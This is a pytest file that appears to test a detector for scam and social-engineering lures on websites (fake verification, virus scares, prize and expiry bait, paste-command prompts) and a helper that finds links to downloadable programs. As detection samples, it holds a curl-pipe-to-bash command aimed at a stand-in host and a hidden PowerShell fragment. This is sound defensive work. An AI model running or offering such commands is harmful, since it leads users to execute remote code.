"""What visitors are told before they are given a program or asked for a password."""

import pytest

from app.engines.analyse.own_site.own_pretences import (
    CALLS,
    COMMAND,
    EXPIRED,
    HUMAN,
    OUTDATED,
    PASTES,
    PRIZE,
    SCARES,
    is_script,
    program_links,
)


@pytest.mark.parametrize(
    ("pattern", "said", "harmless"),
    [
        (HUMAN, "Verify you are human", "Human resources"),
        (OUTDATED, "您的浏览器版本过低", "浏览器设置说明"),
        (SCARES, "您的电脑已感染病毒", "电脑维修服务"),
        (CALLS, "Call support at +1-888-555-0137", "Call us any time"),
        (PRIZE, "恭喜您被抽中", "恭喜毕业生"),
        (EXPIRED, "Your mailbox has expired", "The tickets of the mailbox club"),
        (PASTES, "Press Ctrl + V", "Press Ctrl + Z"),
        (COMMAND, "curl https://x.test/a | bash", "curly hair"),
        (COMMAND, "powershell -w hidden", '["bash", "powershell", "python"]'),
    ],
)
def test_a_pretence_is_told_from_what_resembles_it(pattern, said, harmless):
    assert pattern.search(said)
    assert pattern.search(harmless) is None


def test_links_to_programs_end_with_them():
    markup = '<a href="https://up.test/a.zip?v=1">A</a> <a href=/b.js>B</a> <a href="/c.html">C</a>'
    links = list(program_links(markup))
    assert links == ['href="https://up.test/a.zip', "href=/b.js"]
    assert [is_script(link) for link in links] == [False, True]
